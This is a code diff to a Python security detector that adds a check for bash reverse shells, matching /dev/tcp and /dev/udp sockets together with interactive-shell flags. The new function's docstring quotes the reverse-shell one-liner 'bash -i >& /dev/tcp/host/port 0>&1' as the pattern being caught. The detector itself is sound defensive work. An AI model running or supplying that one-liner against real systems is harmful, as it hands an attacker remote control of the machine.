@@ -1,5 +1,6 @@
 """What in a connection is worth a look: who makes it, where it goes, and where its maker comes from."""
 
+import re
 from collections.abc import Iterator, Sequence
 from functools import lru_cache
 from typing import Final
@@ -41,6 +42,10 @@ _WRAPPERS: Final = frozenset(("env", "nohup", "script", "setsid", "stdbuf", "tim
 # What makes an interpreter run a text of its command line; the last letter of a group of options.
 _INLINE: Final = {"lua": "e", "node": "ep", "perl": "eE", "php": "r", "python": "c", "ruby": "e", "tclsh": ""}
 _INLINE_LONG: Final = ("--eval", "--print", "--run")
+
+# bash's own socket, and a shell to type into.
+_SOCKETS: Final = ("/dev/tcp/", "/dev/udp/")
+_TYPED: Final = re.compile(r"(?:^|[\s\"'/;&|(])(?:ba|da|k|z)?sh\s+-[a-z]*i\b|^-[a-z]*i\b|0[<>]&\d")
 
 _SPAWNED: Final = "from multiprocessing."  # Python's own way to begin another of itself
 
@@ -174,6 +179,10 @@ def _shells(
         reason = f"{who.name} gives a program to {where}"
         yield Finding("network.reverse_shell", 4, reason, (*_MAKER, *goal), ("T1059.004",))
         return
+    if who.shell and _gives_itself(process.arguments):
+        reason = f"{who.name} gives itself to {where}"
+        yield Finding("network.reverse_shell", 4, reason, (*_MAKER, *goal), ("T1059.004",))
+        return
     if zone != EXTERNAL:
         return
     server = _server_above(above, process.container)
@@ -266,6 +275,11 @@ def _runs_a_program(args: Sequence[str]) -> bool:
     return name in _LISTENERS and any(
         each in _RUNNING or (each.startswith("-") and not each.startswith("--") and each.endswith("e")) for each in rest
     )
+
+
+def _gives_itself(arguments: str) -> bool:
+    """Of a shell: what it reads and writes goes over a socket of its own, as in `bash -i >& /dev/tcp/host/port 0>&1`."""
+    return any(each in arguments for each in _SOCKETS) and _TYPED.search(arguments) is not None
 
 
 def _is_of_scratch(process: Execution) -> bool:
